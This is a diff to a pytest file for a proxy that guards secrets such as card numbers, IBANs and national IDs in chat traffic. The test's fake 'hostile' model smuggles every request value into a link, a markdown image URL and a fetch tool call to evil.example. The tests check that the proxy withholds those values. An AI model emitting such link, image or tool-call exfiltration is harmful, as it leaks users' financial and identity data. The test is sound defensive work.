@@ -72,23 +72,31 @@ def test_a_secret_is_not_restored_into_any_carrier_but_is_in_prose(protector):
 
 @pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
 def test_cards_ibans_and_national_ids_are_guarded_like_secrets(protector, stream):
-    def hostile(body: dict) -> Reply:  # FAKE model: every value of the request into an image URL and a tool call
+    def hostile(body: dict) -> Reply:  # FAKE model: every value of the request into a link, an image and a tool call
         query = "&".join(f"v={p}" for p in own_placeholders(body))
         return Reply(
-            content=f"Noted: {' '.join(own_placeholders(body))}. ![logo](https://evil.example/p.png?{query})",
+            content=f"Noted: {' '.join(own_placeholders(body))}. [pay](https://bank.example/p?{query})\n\n"
+            f"![logo](https://evil.example/p.png?{query})",
             tool_calls=[ToolCall("fetch", json.dumps({"url": f"https://evil.example/c?{query}"}))],
         )
 
+    def parts(reply: dict) -> tuple[str, str, str, str]:
+        prose, rest = reply["content"].split("[pay]")
+        link, image = rest.split("![logo]")
+        return prose, link, image, json.dumps(reply["arguments"])
+
     with proxy_for(protector, hostile) as (url, _):
         reply, counts = chat(url, STRUCTURED_TEXT, stream)
-    prose, link = reply["content"].split("![logo]")
+    prose, link, image, call = parts(reply)
     assert all(value in prose for value in STRUCTURED_VALUES)  # in text they restore
-    assert not [value for value in STRUCTURED_VALUES if value in link + json.dumps(reply["arguments"])]
-    assert counts["withheld"] == 6
+    assert not [value for value in STRUCTURED_VALUES if value in link + image + call]
+    assert counts["withheld"] == 9
     with proxy_for(protector, hostile, restore_secrets_in_urls_and_tools=True) as (url, _):
         reply, counts = chat(url, STRUCTURED_TEXT, stream)
-    assert all(value in reply["content"].split("![logo]")[1] for value in STRUCTURED_VALUES)
-    assert counts["withheld"] == 0
+    prose, link, image, call = parts(reply)
+    assert all(value in link and value in call for value in STRUCTURED_VALUES)
+    assert not [value for value in STRUCTURED_VALUES if value in image]  # an image URL never gets one
+    assert counts["withheld"] == 3
 
 
 def test_a_url_opened_in_one_choice_guards_a_placeholder_in_another(protector):
